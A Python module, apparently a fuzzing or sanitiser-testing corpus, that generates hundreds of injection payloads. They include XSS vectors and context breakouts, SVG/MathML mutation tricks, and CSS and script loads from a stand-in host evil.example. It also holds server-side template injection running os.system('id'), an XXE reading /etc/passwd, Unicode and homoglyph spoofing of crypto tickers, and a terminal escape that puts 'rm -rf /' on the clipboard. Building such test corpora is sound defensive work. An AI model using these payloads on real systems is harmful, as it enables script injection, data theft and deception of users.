"""Markup and script that wait for a page to forget itself: contexts, vectors and disguises."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

CONTEXTS = {
    "text": "",
    "double-quoted attribute": '">',
    "single-quoted attribute": "'>",
    "unquoted attribute": " >",
    "backtick": "`>",
    "style": "</style>",
    "script": "</script>",
    "title": "</title>",
    "textarea": "</textarea>",
    "noscript": "</noscript>",
    "comment": "-->",
    "odd comment": "--!>",
    "CDATA": "]]>",
    "SVG": "</text></svg>",
    "MathML": "</mtext></math>",
    "template": "</template>",
    "table": "</td></tr></table>",
    "details": "</summary></details>",
    "processing instruction": "?>",
}
"""What ends the place in which a text may stand."""

VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<input autofocus onfocus=alert(1)>",
)
"""What would run or ask somebody."""

ELEMENTS = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><a href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><image href=http://evil.example/x onerror=alert(1)>",
    "<svg><style>@import url(http://evil.example/x.css)</style></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe src=http://evil.example/>",
    "<object data=http://evil.example/x>",
    "<object data=javascript:alert(1)>",
    "<embed src=http://evil.example/x>",
    "<applet code=x archive=http://evil.example/x.jar>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<meta charset=utf-7>",
    "<base href=http://evil.example/>",
    "<base target=_top>",
    "<form action=http://evil.example><input autofocus onfocus=alert(1)>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<frameset onload=alert(1)>",
    "<table background=http://evil.example/x>",
    "<bgsound src=http://evil.example/x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a ping=http://evil.example href=#>x</a>",
    "<a href=http://evil.example target=_blank>x</a>",
    "<area shape=default href=javascript:alert(1)>",
    "<input type=image src=http://evil.example/x>",
    "<video poster=http://evil.example/x>",
    "<audio src=http://evil.example/x autoplay>",
    "<picture><source srcset=http://evil.example/x><img></picture>",
    "<img srcset='http://evil.example/x 1x'>",
    "<track kind=subtitles src=http://evil.example/x>",
    "<portal src=http://evil.example>",
    "<dialog open>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<script type=module>import'http://evil.example/x.js'</script>",
    "<script type=importmap>{}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://evil.example\"]}]}</script>",
    "<script nonce=x>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![if gte IE 9]><script>alert(1)</script><![endif]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "</p><script>alert(1)</script>",
    "<b>bold</b>\r\n<i>lines</i>\t",
    "<p id=__proto__ name=constructor>",
)  # fmt: skip

EVENTS = (
    "onload onerror onclick onmouseover onmouseenter onpointerrawupdate onfocus onblur ontoggle "
    "onanimationstart ontransitionend onwheel oncopy onpaste onbeforeprint onafterprint "
    "onhashchange onpageshow onscroll onresize onsecuritypolicyviolation onbeforetoggle "
    "oncontentvisibilityautostatechange"
).split()
"""Attributes that run, to be added to an element that is there."""

STYLES = (
    'x" style="background:url(http://evil.example/x)',
    "x' style='background:url(http://evil.example/x)",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/f)}*{font-family:x}</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>body{display:none}</style>",
    "}*{background:url(http://evil.example/x)}",
    "</style><style>*{content:url(http://evil.example/x)}",
    "<div style=behavior:url(x.htc)>",
    "<div style=-moz-binding:url(http://evil.example/x)>",
    "<div style='width:expression(alert(1))'>",
    "<div style='position:fixed;inset:0;background:#fff'>cleared</div>",
    "\\3c script\\3e alert(1)",
)

SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;&#97;vascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*-->alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:http://evil.example/x",
    "filesystem:http://evil.example/x",
    "view-source:http://evil.example",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "http://evil.example/claim-your-airdrop",
    "http:evil.example",
    "../../../../etc/passwd",
    "mailto:x@evil.example",
    "tel:+1900555000",
)

TEMPLATES = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{config}}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# note #}",
    "{{ '<script>alert(1)</script>'|safe }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<% alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[7*7]]",
    "%s%s%s%n",
    "{0.__class__}",
    "%(x)s",
    "{__import__('os').system('id')}",
    "$(id)",
    "`id`",
    "[link](javascript:alert(1))",
    "![x](http://evil.example/x)",
    "[x]: javascript:alert(1)",
    "| a | b |",
    "\n# heading\n",
    "```\n<script>alert(1)</script>",
)

UNSEEN = (
    "\u202egnp.exe\u202c",
    "USD\u200bT",
    "\ufeff\u2066tether\u2069",
    "U\u0405DT",
    "\x00",
    "\x00<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x7f\x80\x9f",
    "\u2028alert(1)\u2029",
    "\u061c\u200e\u200f",
    "\u2067\u202b<script>alert(1)</script>\u2069",
    "\ue000\uf8ff",
    "\ufdd0\uffff",
    "\U000e0041\U000e0042",
    "a" + "\u0301" * 40,
    "\u3164\u115f\u2800",
    "\u00ad\u034f\u180e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\u02c2img src=x onerror=alert(1)\u02c3",
    "\u1438script\u1433",
    "0x\u0430bc",
    "\uff30\uff21\uff39",
    "\ufb01nance",
    "\u0130stanbul\u0131",
    "\u1e9e\u00df",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xc0\xbcscript\xc0\xbe",
    "\x1b[2J\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[31mred\x1b[0m",
    "\x9b2J",
    "\x1bP+q544e\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x08\x08\x08cleared",
    "\rcleared",
    "[bold red]cleared[/]",
    "[link=http://evil.example]x[/link]",
)  # fmt: skip


def payloads() -> list[str]:
    """Return every payload once, in a fixed order."""
    return list(dict.fromkeys([*_made(), *ELEMENTS, *STYLES, *SCHEMES, *TEMPLATES, *UNSEEN]))


def _made() -> Iterator[str]:
    for end in CONTEXTS.values():
        for vector in VECTORS:
            yield end + vector
    for event in EVENTS:
        yield f'" {event}="alert(1)'
        yield f"' {event}='alert(1)' autofocus='"
        yield f"x {event}=alert(1) "
    for vector in VECTORS:
        yield from _disguised(vector)


def _disguised(text: str) -> Iterator[str]:
    """Write markup in ways that something may undo."""
    yield "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield text.replace("<", "&#60;").replace(">", "&#62;")
    yield text.replace("<", "&#x3c").replace(">", "&#x3e")
    yield text.replace("<", "&#0000060").replace(">", "&#0000062")
    yield text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield text.replace("<", "\\u003c").replace(">", "\\u003e")
    yield text.replace("<", "\\x3c").replace(">", "\\x3e")
    yield quote(text)
    yield quote(quote(text))
    yield text.replace("<", "<<")
    yield text.replace(" ", "/")
    yield text.replace(" ", "\t").replace(">", "\n>")
    yield text.replace("<", "<\u200b")
    yield text.rstrip(">")
